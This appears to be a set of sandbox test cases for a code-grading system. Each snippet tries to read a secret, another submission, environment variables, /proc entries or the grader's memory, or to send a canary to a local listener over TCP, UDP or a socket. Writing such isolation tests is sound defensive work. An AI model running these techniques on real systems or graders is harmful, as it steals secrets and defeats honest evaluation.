# Submissions that want to read what is not theirs. What they find, they print, or send to a listener.

# %% read the course's seed | the secret is in the output
print(open(SECRET).read())

# %% read another submission | the other one's answer is in the output
print(open(OTHER).read())

# %% search the disk | a file with the secret is found by walking
import os

for place in (os.path.dirname(SECRET), os.path.dirname(OTHER), "/tmp", "/var/tmp", "/dev/shm", os.path.expanduser("~")):
    for folder, _, names in os.walk(place):
        for name in names[:200]:
            try:
                path = os.path.join(folder, name)
                if os.path.getsize(path) < 100_000 and b"canary-" in (text := open(path, "rb").read()):
                    print(path, text)
            except OSError:
                pass

# %% read the environment | a variable of the one who grades is in ours
import os

print(dict(os.environ))

# %% read the environments of others | a variable of the one who grades is in /proc
import glob

for path in glob.glob("/proc/*/environ"):
    try:
        print(open(path, "rb").read())
    except OSError:
        pass

# %% read the memory of the grader | the process above us can be opened
import glob
import os

for path in [f"/proc/{os.getppid()}/mem", *glob.glob("/proc/[0-9]*/mem")]:
    if path != f"/proc/{os.getpid()}/mem":
        try:
            open(path, "rb").close()
            print(CANARY_PREFIX + path)
        except OSError:
            pass

# %% read inherited descriptors | a descriptor that was left open leads to the secret
import os

for number in range(3, 256):
    try:
        target = os.readlink(f"/proc/self/fd/{number}")
        if target.startswith("/") and "canary-" in (text := open(f"/proc/self/fd/{number}").read(100_000)):
            print(target, text)
    except (OSError, UnicodeDecodeError):
        pass

# %% leave by the roots of others | another process's root shows the secret
import glob

for root in glob.glob("/proc/[0-9]*/root"):
    try:
        print(open(root + SECRET).read())
    except OSError:
        pass

# %% link to the secret | a symbolic link in our folder is followed by whoever copies it
import os

os.symlink(SECRET, "link.txt")
print(open("link.txt").read())

# %% send it by TCP | the listener hears from us
import socket

socket.create_connection(("127.0.0.1", PORT), timeout=2).sendall(b"canary-sent")

# %% send it by UDP | the listener hears from us
import socket

socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"canary-sent", ("127.0.0.1", PORT))

# %% send it through an abstract socket | the listener hears from us
import socket

line = socket.socket(socket.AF_UNIX)
line.connect(ABSTRACT)
line.sendall(b"canary-sent")

# %% ask a program | a program reads what we may not
import subprocess

print(subprocess.run(["cat", SECRET, OTHER], capture_output=True, text=True).stdout)

# %% see who else is here | what runs beside us can be seen | reduced
import os

if os.path.exists(f"/proc/{PID}"):
    print(CANARY_PREFIX)
